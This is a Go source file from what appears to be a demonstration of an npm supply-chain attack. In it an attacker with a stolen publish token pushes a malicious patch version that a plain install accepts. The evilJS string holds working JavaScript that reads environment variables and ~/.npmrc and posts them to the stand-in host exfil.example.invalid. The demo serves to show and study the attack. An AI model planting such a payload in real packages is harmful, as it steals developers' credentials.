package demo

import (
	"bytes"
	"path/filepath"
)

const (
	pkgName = "demo-widget"

	goodJS = "'use strict';\n// demo-widget: adds two numbers.\nmodule.exports = function add(a, b) { return a + b; };\n"

	// The attacker's version: same API, plus a credential grab sent out at
	// require time. The demo never runs it (installs use --ignore-scripts and
	// nothing requires it); it only has to reach users.
	evilJS = "'use strict';\n" +
		"const https = require('https');\n" +
		"const os = require('os');\n" +
		"const fs = require('fs');\n" +
		"// STOLEN-TOKEN-PAYLOAD\n" +
		"try {\n" +
		"  const loot = JSON.stringify({ env: process.env, npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') });\n" +
		"  const req = https.request({ hostname: 'exfil.example.invalid', path: '/collect', method: 'POST' });\n" +
		"  req.on('error', () => {}); req.end(loot);\n" +
		"} catch (e) {}\n" +
		"module.exports = function add(a, b) { return a + b; };\n"
)

// actPlainNPM: alice publishes 1.0.0; an app depends on ^1.0.0; an attacker
// with alice's stolen token publishes 1.0.1; a plain npm install takes it.
func (r *run) actPlainNPM(a *Act) error {
	v1 := filepath.Join(r.work, "widget-1.0.0")
	if err := writePackage(v1, pkgName, "1.0.0", goodJS, nil); err != nil {
		return err
	}
	if _, err := r.npm.npm(v1, r.npm.token, "publish"); err != nil {
		return errStep("alice publishes 1.0.0", err)
	}
	r.say("   alice publishes %s@1.0.0 with her npm token", pkgName)

	app := filepath.Join(r.work, "app")
	if err := writePackage(app, "demo-app", "1.0.0", "require('demo-widget');\n", map[string]any{
		"private": true, "dependencies": map[string]string{pkgName: "^1.0.0"},
	}); err != nil {
		return err
	}

	evil := filepath.Join(r.work, "widget-1.0.1-evil")
	if err := writePackage(evil, pkgName, "1.0.1", evilJS, nil); err != nil {
		return err
	}
	if _, err := r.npm.npm(evil, r.npm.token, "publish"); err != nil {
		return errStep("attacker publishes 1.0.1 with the stolen token", err)
	}
	r.say("   an attacker with a copy of alice's token publishes %s@1.0.1 (reads ~/.npmrc and env, posts them out)", pkgName)

	out, err := r.npm.npm(app, "", "install", "--ignore-scripts", "--no-audit")
	if err != nil {
		return errStep("npm install", err)
	}
	version, index, err := installedVersion(app, pkgName)
	if err != nil {
		return err
	}
	a.Facts["installedVersion"] = version
	a.Facts["payloadInstalled"] = "false"
	if bytes.Contains(index, []byte("STOLEN-TOKEN-PAYLOAD")) {
		a.Facts["payloadInstalled"] = "true"
	}
	a.Facts["npmOutput"] = trimOut(out)
	r.say("   plain `npm install` in the app: installed %s@%s, payload inside: %s, warnings: none",
		pkgName, version, a.Facts["payloadInstalled"])
	if version != "1.0.1" || a.Facts["payloadInstalled"] != "true" {
		return storyf("plain npm was expected to install the attacker's 1.0.1, got %s", version)
	}
	return nil
}
